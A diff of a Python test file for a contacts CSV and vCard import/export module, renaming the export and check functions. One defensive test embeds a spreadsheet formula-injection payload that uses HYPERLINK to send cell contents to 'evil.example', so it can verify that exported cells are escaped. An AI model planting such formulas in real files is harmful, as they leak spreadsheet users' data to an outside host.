@@ -17,8 +17,8 @@ from hypothesis import strategies as st
 from composer.contacts_io import (
     Outcome,
     Skipped,
-    check,
-    export_csv,
+    check_imported,
+    export_contacts_csv,
     guess_columns,
     import_csv,
     preview,
@@ -319,7 +319,7 @@ def test_export_then_import_finds_every_contact_a_duplicate(store: Store, tmp_pa
     store.add_contact(Contact("山田太郎", "taro@example.jp", notes='say "hi"'))
     store.add_contact(Contact("Robert Smith", "rob@x.example", greeting="Bob"))
     path = tmp_path / "out.csv"
-    assert export_csv(store.contacts(), path) == 3
+    assert export_contacts_csv(store.contacts(), path) == 3
     data = path.read_bytes()
     assert data.startswith(b"\xef\xbb\xbfName,Email,Company,Title,Phone,Notes,Greeting\r\n")
     assert ",Bob\r\n" in data.decode("utf-8-sig") and ",Zoë\r\n" in data.decode("utf-8-sig")
@@ -337,7 +337,7 @@ def test_export_then_import_finds_every_contact_a_duplicate(store: Store, tmp_pa
 
 def test_an_export_that_cannot_be_written_says_so(tmp_path: Path) -> None:
     with pytest.raises(FileProblem, match=r"cannot write .* Choose another folder"):
-        export_csv([Contact("Ana")], tmp_path / "no such folder" / "out.csv")
+        export_contacts_csv([Contact("Ana")], tmp_path / "no such folder" / "out.csv")
     assert list(tmp_path.iterdir()) == []
 
 
@@ -346,7 +346,7 @@ def test_a_contacts_export_writes_formula_cells_as_text(tmp_path: Path, start: s
     """A spreadsheet runs "=HYPERLINK(…)" in a name someone sent; a leading ' makes it text."""
     formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
     path = tmp_path / "out.csv"
-    export_csv([Contact(formula, "ana@x.example", formula, notes=formula)], path)
+    export_contacts_csv([Contact(formula, "ana@x.example", formula, notes=formula)], path)
 
     with path.open(encoding="utf-8-sig", newline="") as file:
         [header, row] = list(csv.reader(file))
@@ -362,7 +362,7 @@ def test_formula_cells_exported_come_back_exactly_through_import(
     store.add_contact(Contact("'Tis O'Neil", "tis@x.example", "'=quoted", notes="-a\n=b"))
     store.add_contact(Contact("Bo", "bo@x.example", phone="+1 555 0100", greeting="+Bo"))
     path = tmp_path / "out.csv"
-    export_csv(store.contacts(), path)
+    export_contacts_csv(store.contacts(), path)
     assert ",'+44 20 7946 0000," in path.read_text(encoding="utf-8-sig")
 
     with Store(tmp_path / "other.sqlite3") as fresh:
@@ -381,7 +381,7 @@ def test_formula_cells_exported_come_back_exactly_through_import(
 def test_contact_exports_are_readable_by_the_user_alone(tmp_path: Path) -> None:
     old = os.umask(0o022)  # most systems' default: a careless file would be 0644
     try:
-        export_csv([Contact("Ana", "ana@x.example")], tmp_path / "out.csv")
+        export_contacts_csv([Contact("Ana", "ana@x.example")], tmp_path / "out.csv")
         (tmp_path / "cards.vcf").write_text("an older export")  # made 0644: replaced, private
         export_vcards([Contact("Ana", "ana@x.example")], tmp_path / "cards.vcf")
     finally:
@@ -453,7 +453,7 @@ def test_any_name_and_notes_survive_a_vcard(name: str, notes: str) -> None:
     name, notes = " ".join(name.split()) or "x", notes.strip()
     text = vcard(Contact(name, notes=notes))
     assert all(len(line) <= 75 for line in text.encode().split(b"\r\n"))
-    [back] = check(parse_vcards(text), set())
+    [back] = check_imported(parse_vcards(text), set())
     assert (back.contact.name, back.contact.notes) == (name, notes)
 
 
